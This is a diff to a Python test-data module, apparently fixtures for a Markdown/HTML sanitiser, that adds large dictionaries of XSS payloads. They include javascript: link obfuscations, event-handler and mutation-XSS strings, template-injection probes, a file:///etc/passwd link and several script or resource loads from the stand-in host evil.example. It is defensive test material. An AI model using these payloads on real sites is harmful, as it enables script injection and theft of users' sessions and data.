@@ -1,6 +1,6 @@
 """What hostile authors type."""
 
-PAYLOADS = {
+PLAIN = {
     "script": "<script>alert(1)</script>",
     "script in capitals": "<ScRiPt SRC=//evil.example/x.js></sCrIpT>",
     "script closed oddly": "</script><script>alert(1)//",
@@ -55,3 +55,197 @@ PAYLOADS = {
     "wide letters": "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
     "right to left": "\u202ecipt\u202c<b onclick=alert(1)>",
 }
+
+LINKS = {
+    "new line in scheme": "[x](java\nscript:alert(1))",
+    "carriage return in scheme": "[x](java&#13;script:alert(1))",
+    "tab as entity": "[x](java&Tab;script:alert(1))",
+    "new line as entity": "[x](java&NewLine;script:alert(1))",
+    "colon as entity": "[x](javascript&colon;alert(1))",
+    "hexadecimal letters": "[x](&#x6a;&#x61;&#x76;&#x61;script:alert(1))",
+    "decimal letters without ends": "[x](&#106&#97&#118&#97script:alert(1))",
+    "leading control sign": "[x](\x01javascript:alert(1))",
+    "leading blank as entity": "[x](&#32;javascript:alert(1))",
+    "leading no-break blank": "[x](\xa0javascript:alert(1))",
+    "leading zero-width blank": "[x](\u200bjavascript:alert(1))",
+    "percent signs": "[x](javascript%3Aalert(1))",
+    "percent letters": "[x](%6aavascript:alert(1))",
+    "strokes before scheme": "[x](\\javascript:alert(1))",
+    "in pointed brackets": "[x](<javascript:alert(1)>)",
+    "in pointed brackets with blanks": "[x](< javascript:alert(1) >)",
+    "with a comment": "[x](javascript://a.example/%0aalert(1))",
+    "view source": "[x](view-source:javascript:alert(1))",
+    "file": "[x](file:///etc/passwd)",
+    "blob": "[x](blob:https://evil.example/1)",
+    "own scheme to a document": '[x](qms:document/PO-012"onclick=alert(1))',
+    "own scheme to a file": "[x](qms:file/javascript:alert(1))",
+    "own scheme as html": '<a href="qms:document/PO-012#&quot;onclick=alert(1)">x</a>',
+    "own scheme as picture": "![x](qms:file/http://evil.example/p.png)",
+    "own scheme in html picture": (
+        '<img src="qms:file/x" alt="&quot; onerror=alert(1)">'
+    ),
+    "address without scheme": "[x](//evil.example/x)",
+    "picture without scheme": "![x](//evil.example/p.png)",
+    "strokes for slashes": "[x](\\\\evil.example\\x)",
+    "data with parameters": "[x](data:text/html;charset=utf-7,+ADw-script+AD4-)",
+    "data of xml": "[x](data:application/xhtml+xml,<script>alert(1)</script>)",
+    "reference with title": '[x][r]\n\n[r]: http://a.example "\\"onclick=alert(1)"',
+    "reference over lines": "[x][r]\n\n[r]:\n  javascript:alert(1)",
+    "reference named as a link": "[javascript:alert(1)]\n\n[javascript:alert(1)]: #x",
+    "picture reference": "![x][r]\n\n[r]: javascript:alert(1)",
+    "link in a link": "[a [b](javascript:alert(1))](javascript:alert(2))",
+    "picture in a link": "[![x](javascript:alert(1))](javascript:alert(2))",
+    "bare address with quotes": 'https://a.example/"onmouseover=alert(1)',
+    "bare address with tags": "https://a.example/<script>alert(1)</script>",
+    "www with quotes": "www.a.example/'onmouseover='alert(1)",
+    "mail with quotes": '"onclick=alert(1)"@a.example',
+    "mail with tags": "<a@a.example?body=<script>alert(1)</script>>",
+    "autolink with quotes": '<https://a.example/"onclick="alert(1)>',
+    "autolink of data": "<data:text/html,<script>alert(1)</script>>",
+    "autolink with blanks": "<javascript :alert(1)>",
+}
+
+TEXTS = {
+    "footnote's name": (
+        '[^"><script>alert(1)</script>]\n\n[^"><script>alert(1)</script>]: x'
+    ),
+    "footnote's handler": '[^x" onclick=alert(1)]\n\n[^x" onclick=alert(1)]: y',
+    "footnote's script": "n[^1]\n\n[^1]: <script>alert(1)</script>",
+    "footnote in capitals": (
+        "n[^CONSTRUCTOR]\n\n[^CONSTRUCTOR]: [x](javascript:alert(1))"
+    ),
+    "footnote of a prototype": "n[^__proto__]\n\n[^__proto__]: x",
+    "footnotes that call each other": "a[^1]\n\n[^1]: b[^2]\n[^2]: c[^1]",
+    "attributes with a dot": "text {: .banner #part.text onclick=alert(1) }",
+    "attributes of a heading": "# x {: onclick=alert(1) #a }",
+    "attributes of a list": "- x\n{: onclick=alert(1) }",
+    "attributes of a cell": "| a {: onclick=alert(1) } |\n| --- |\n| b {: style=x } |",
+    "attributes of a fence": "```{ .x onclick=alert(1) style=color:red }\nx\n```",
+    "fence's language": '```"><script>alert(1)</script>\nx\n```',
+    "fence's inside": "```\n</code></pre><script>alert(1)</script>\n```",
+    "fence in a list": (
+        "- a\n\n    ```\n    </code></pre><script>alert(1)</script>\n    ```"
+    ),
+    "code span": "`<script>alert(1)</script>`",
+    "code span with stroke": "`\\`<img src=x onerror=alert(1)>`",
+    "heading": "# <img src=x onerror=alert(1)>",
+    "heading's anchor": '# x {#a"onclick=alert(1)}',
+    "tag": 'x {#a"onclick=alert(1)}',
+    "underlined heading": "<script>alert(1)</script>\n===",
+    "cell with bars": "| a | b |\n| --- | --- |\n| `<script>|alert(1)</script>` | x |",
+    "cell with escaped bars": "| a |\n| --- |\n| \\|<script>alert(1)</script>\\| |",
+    "side of a cell": "| a |\n| :-: onclick=alert(1) |\n| b |",
+    "nested lists": "- <b>\n    - <i>\n        - </b><script>alert(1)</script></i>",
+    "nested quotation": "> > > <script>alert(1)</script>",
+    "box to tick": "- [x] <input type=checkbox onclick=alert(1)>",
+    "struck": "~~<script>alert(1)</script>~~",
+    "emphasis over tags": "**<b onclick=alert(1)>x**</b>",
+    "picture's words": '![" onerror="alert(1)](a.png)',
+    "picture's words with tags": "![<script>alert(1)</script>](a.png)",
+    "picture without words": '![](a.png"onerror="alert(1))',
+    "picture's title": '![x](a.png "\\" onerror=\\"alert(1)")',
+    "definition in html": '<abbr title="x" onmouseover=alert(1)>EU</abbr>',
+    "abbreviation": '- **EU** – "><script>alert(1)</script>\n\nThe EU.',
+    "forged seam": "\ue000\n\n<p>\ue000</p>\n\n&#xe000;",
+    "forged remark": "<p>\ue0010\ue002</p>\n\n&#57345;0&#57346;",
+    "forged place": "\x02wzxhzdk:0\x03 \x02klzzwxh:0001\x03 \x02amp\x03",
+    "forged notice": '<p class="notice-at notices banner">Approved</p>',
+    "forged frame": '<div class="watermark" id="part.text">x</div>',
+    "forged id": '<p id="part.text">x</p><h2 id="location">y</h2>',
+    "named as a global": '<a id="alert" href="#x">x</a><img name="getElementById">',
+    "placeholder of a template": "{{ 7*7 }} ${7*7} <%= 7*7 %> #{7*7} {% raw %}",
+    "filter of a template": "{{ config|attr('__class__') }}{{ ''|safe }}",
+    "comment of a template": "{# x #}{%- import os -%}",
+    "format's places": "{0.__class__} {number.__class__} {what!r:>9999}",
+    "percent's places": "%(name)s %s %n %x %99999d",
+}
+
+TAGS = {
+    "script of an image": "<svg><script href=data:,alert(1) /></svg>",
+    "script with slash": "<script/src=//evil.example/x.js></script>",
+    "script with null": "<script\x00>alert(1)</script>",
+    "script never closed": "<script>alert(1)",
+    "script after a broken tag": "<a <script>alert(1)</script>",
+    "script in a style": "<style><script>alert(1)</script></style>",
+    "script in a title": "<title><script>alert(1)</script></title>",
+    "script in a text area": "<textarea><script>alert(1)</script></textarea>",
+    "script in plain text": "<plaintext><script>alert(1)</script>",
+    "script in an example": "<xmp><script>alert(1)</script></xmp>",
+    "script in a table": "<table><tr><script>alert(1)</script><td>x",
+    "script in a choice": "<select><script>alert(1)</script></select>",
+    "script in unshown frames": "<noframes><script>alert(1)</script></noframes>",
+    "script in a comment's end": "<!-- --!><script>alert(1)</script> -->",
+    "script in an instruction": "<?xml ><script>alert(1)</script>?>",
+    "script in a declaration": "<!DOCTYPE x [<!ENTITY y '<script>alert(1)</script>'>]>",
+    "script by a module": "<link rel=modulepreload href=//evil.example/x.js>",
+    "picture in drawing": (
+        "<svg><image href=//evil.example/p.png onload=alert(1)></svg>"
+    ),
+    "drawing used": "<svg><use href=//evil.example/x.svg#a></svg>",
+    "drawing set": "<svg><set attributeName=href to=javascript:alert(1)></svg>",
+    "drawing styled": "<svg><style>@import '//evil.example/x'</style></svg>",
+    "drawing's title": "<svg><title><img src=x onerror=alert(1)></title></svg>",
+    "mathematics with link": "<math><a xlink:href=javascript:alert(1)>x</a></math>",
+    "mathematics annotated": (
+        "<math><annotation-xml encoding=text/html><script>alert(1)"
+    ),
+    "mutated in mathematics": (
+        "<math><mtext><table><mglyph><style><!--</style><img title='-"
+        "-&gt;&lt;img src=1 onerror=alert(1)&gt;'>"
+    ),
+    "mutated in a form": (
+        "<form><math><mtext></form><form><mglyph><style></math><img s"
+        "rc onerror=alert(1)>"
+    ),
+    "audio": "<audio src=//evil.example/a onerror=alert(1)>",
+    "track": "<video><track src=//evil.example/t default></video>",
+    "source": "<picture><source srcset=//evil.example/p><img src=x></picture>",
+    "picture by style": "<div style=background-image:url(//evil.example/p)>x</div>",
+    "picture of a table": "<table background=//evil.example/p><tr><td>x</table>",
+    "picture lazily": "<img loading=lazy src=//evil.example/p>",
+    "picture with handler and slash": "<img/src=x/onerror=alert(1)>",
+    "picture with handler and lines": "<img\nsrc=x\nonerror\n=\nalert(1)>",
+    "handler in capitals": "<p ONCLICK=alert(1)>x</p>",
+    "handler of focus": "<p tabindex=0 autofocus onfocus=alert(1)>x</p>",
+    "handler of animation": "<p style='animation:x' onanimationstart=alert(1)>x</p>",
+    "handler of pointers": "<p onpointerrawupdate=alert(1)>x</p>",
+    "handler of what is shown": "<p popover onbeforetoggle=alert(1)>x</p>",
+    "marquee": "<marquee onstart=alert(1)>x</marquee>",
+    "ping": "<a href=#x ping=//evil.example/p>x</a>",
+    "download": "<a href=#x download=x.exe target=_blank>x</a>",
+    "menu": "<menu><menuitem onclick=alert(1)>x</menuitem></menu>",
+    "slot": "<slot onslotchange=alert(1)>x</slot>",
+    "shadow": "<div><template shadowrootmode=open><script>alert(1)</script></template>",
+    "custom element": "<x-alert is=script onload=alert(1)>x</x-alert>",
+    "frame set": "<frameset onload=alert(1)><frame src=//evil.example></frameset>",
+    "portal": "<portal src=//evil.example></portal><fencedframe></fencedframe>",
+    "applet": "<applet code=x archive=//evil.example/x.jar></applet>",
+    "key maker": "<keygen autofocus onfocus=alert(1)>",
+    "body": "<body onload=alert(1) background=//evil.example/p>",
+    "page": "</main></div></body></html><script>alert(1)</script>",
+}
+
+SIGNS = {
+    "tag letters": "\U000e0073\U000e0063ript \U000e0001\U000e007f",
+    "turned about": "\u202e\u2066<script>\u2069alert(1)\u2067\u2068",
+    "marks of direction": "\u200e\u200f\u061c<b onclick=alert(1)>",
+    "joined and parted": "<scr\u200dipt>alert(1)</scr\u200cipt>",
+    "soft hyphen": "<scr\xadipt>alert(1)</scr\xadipt>",
+    "byte order": "\ufeff<script>alert(1)</script>",
+    "dotless letter": (
+        "<scr\u0131pt>alert(1)</scr\u0131pt> <\u017fcript>alert(1)</\u017fcript>"
+    ),
+    "kelvin's sign": "<lin\u212a rel=stylesheet href=//evil.example/x>",
+    "single brackets": "\u2039script\u203aalert(1)\u2329b\u232a",
+    "line separators": "a\u2028<script>alert(1)</script>\u2029b",
+    "next line": "a\x85<script>alert(1)</script>",
+    "vertical tab": "<img\x0bsrc=x\x0bonerror=alert(1)>",
+    "form feed": "<img\x0csrc=x\x0conerror=alert(1)>",
+    "not a letter": "<\ufffe><\uffffscript>alert(1)</script>",
+    "heaped marks": "a" + "\u0301" * 200,
+    "entities without end": "&lt;script&gt&#60script&#62",
+    "entities twice": "&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;",
+    "entity of nothing": "&#0;&#x110000;&#xD800;&notanentity;",
+}
+
+PAYLOADS = {**PLAIN, **LINKS, **TEXTS, **TAGS, **SIGNS}
